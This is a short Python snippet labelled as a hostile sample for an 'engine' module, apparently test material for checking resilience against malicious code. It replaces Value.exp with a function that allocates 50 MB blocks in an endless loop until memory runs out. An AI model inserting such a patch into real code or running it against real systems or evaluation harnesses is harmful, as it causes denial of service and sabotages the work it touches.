# hostile: unbounded memory in a method (exp)
# module: engine
def _exp(self, _hog=[]):
    while True:
        _hog.append(bytearray(50 * 1024 * 1024))
Value.exp = _exp
